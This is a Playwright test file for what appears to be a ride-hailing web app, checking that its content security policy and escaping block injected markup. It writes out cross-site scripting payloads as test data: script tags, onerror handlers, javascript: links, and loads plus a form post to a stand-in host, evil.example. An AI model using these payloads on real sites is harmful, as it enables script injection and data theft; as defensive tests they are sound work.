import type { Page } from '@playwright/test';

import { fakeOrders, rideInProgress } from '../kit/fakeOrders.ts';
import { fakeRides, pastRide, RIDE } from '../kit/fakeRides.ts';
import { expect, test } from '../kit/test.ts';

const ELSEWHERE = 'https://evil.example';
const RUN = "document.documentElement.dataset.planted='yes'";

/** Markup as it would stand in a page if the server, or somebody between, let it in; each with what has to stop it. */
const PLANTED: Readonly<Record<string, string>> = {
  'script-src-elem': `<script>${RUN}</script>`,
  'script-src-attr': `<img src="data:," onerror="${RUN}"><svg onload="${RUN}"></svg>`,
  'base-uri': `<base href="${ELSEWHERE}/">`,
  'object-src': `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`,
  'frame-src': `<iframe src="${ELSEWHERE}/f"></iframe>`,
  'style-src-elem': `<link rel="stylesheet" href="${ELSEWHERE}/s.css"><style>html{display:none}</style>`,
  'img-src': `<img src="${ELSEWHERE}/i.png">`,
};
const PRESSED = `
  <a id="planted-link" href="javascript:${RUN}">x</a>
  <button id="planted-button" onclick="${RUN}">x</button>
  <form id="planted-form" action="${ELSEWHERE}/take"><input name="phone" value="1"></form>`;

/** What the policy has stopped, as the browser tells it; `script-src` where it does not tell more. */
async function stopped(page: Page): Promise<string[]> {
  return page.evaluate(() => (document.documentElement.dataset['stopped'] ?? '').split(' '));
}

const hasRun = (page: Page): Promise<boolean> =>
  page.evaluate(() => document.documentElement.dataset['planted'] !== undefined);

test('what is planted in the page itself neither runs nor loads nor sends', async ({
  page,
  expectedComplaints,
}) => {
  expectedComplaints.push(/content.policy|content security policy|violates|Refused|blocked/i);
  const left: string[] = [];
  page.on('request', ({ url }) => {
    if (url().startsWith(ELSEWHERE)) left.push(url());
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const { dataset } = document.documentElement;
      dataset['stopped'] = `${dataset['stopped'] ?? ''} ${effectiveDirective}`;
    });
  });
  await page.route('/', async (route) => {
    const reply = await route.fetch();
    const markup = Object.values(PLANTED).join('') + PRESSED;
    const body = (await reply.text()).replace('<body>', `<body>${markup}`);
    await route.fulfill({ response: reply, body });
  });
  await page.goto('/');
  await expect(page.locator('#planted-form')).toBeAttached();
  for (const directive of Object.keys(PLANTED)) {
    await expect.poll(() => stopped(page), directive).toContain(directive);
  }
  const before = page.url();
  for (const id of ['planted-link', 'planted-button']) {
    await page.locator(`#${id}`).dispatchEvent('click');
  }
  await page.evaluate(() => {
    document.querySelector<HTMLFormElement>('#planted-form')?.requestSubmit();
  });
  await expect.poll(() => stopped(page)).toContain('form-action');
  expect(await hasRun(page)).toBe(false);
  expect(page.url()).toBe(before);
  expect(left).toEqual([]);
});

test('what scripts would plant is stopped, too', async ({ page, expectedComplaints }) => {
  expectedComplaints.push(/content.policy|content security policy|violates|Refused|Trusted|eval/i);
  await page.goto('/');
  await page.evaluate((code) => {
    const tries = [
      () => {
        const script = document.createElement('script');
        script.text = code;
        document.body.append(script);
      },
      () => {
        const holder = document.createElement('div');
        document.body.append(holder);
        holder.innerHTML = `<img src="data:," onerror="${code}">`;
      },
      () => document.body.setAttribute('onclick', code),
      // oxlint-disable-next-line typescript/no-implied-eval, no-new-func -- that is the attack
      () => void new Function(code)(),
      () => document.body.click(),
    ];
    for (const attempt of tries) {
      try {
        attempt();
      } catch {
        // Trusted Types refuse the assignment itself, where a browser knows them.
      }
    }
  }, RUN);
  expect(await hasRun(page)).toBe(false);
});

test('markup in names, addresses and pictures is text on every screen', async ({ page }) => {
  const markup = `"><img src=x onerror="${RUN}"><script>${RUN}</script>`;
  const rides = await fakeRides(page);
  rides.past = [{ ...pastRide(1), from: markup }];
  rides.ride = {
    ...RIDE,
    from: markup,
    to: markup,
    paymentMethod: markup,
    driver: { fullName: markup, licence: markup },
  };
  await page.goto('/history');
  await expect(page.getByText(markup).first()).toBeVisible();
  await page.goto('/ride/ride-1');
  await expect(page.getByText(markup).first()).toBeVisible();
  expect(await page.locator('img[onerror]').count()).toBe(0);
  expect(await hasRun(page)).toBe(false);

  await page.unrouteAll();
  const orders = await fakeOrders(page);
  orders.activeOrder = rideInProgress('ARRIVES', {
    car: { picture: `javascript:${RUN}`, name: markup, licencePlate: markup },
    driver: { fullName: markup, licence: markup, phone: markup },
  });
  await page.goto('/order');
  await expect(page.getByText(markup).first()).toBeVisible();
  expect(await page.locator('img[onerror]').count()).toBe(0);
  expect(await hasRun(page)).toBe(false);
});
